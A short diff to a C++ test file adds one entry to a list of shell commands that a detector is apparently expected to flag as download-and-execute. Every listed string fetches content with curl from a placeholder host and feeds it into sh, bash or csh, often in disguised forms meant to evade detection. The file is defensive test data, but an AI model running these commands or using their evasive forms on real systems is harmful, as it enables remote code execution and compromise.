@@ -130,6 +130,7 @@ TEST(ExplanationTest, DownloadThatRunsThroughOthers_IsFound) {
                                        "echo() { curl e.example; }; echo ls | sh",
                                        "cat() { curl x; }; cat <<E | sh\nls\nE",
                                        "{ bash; } < <(curl e.example)",
+                                       "{ bash <&0; } < <(curl e.example)",
                                        "(cd x; sh) <<< \"$(curl e.example)\"",
                                        "while true; do sh; done < <(curl e.example)",
                                        "curl e.example | csh",
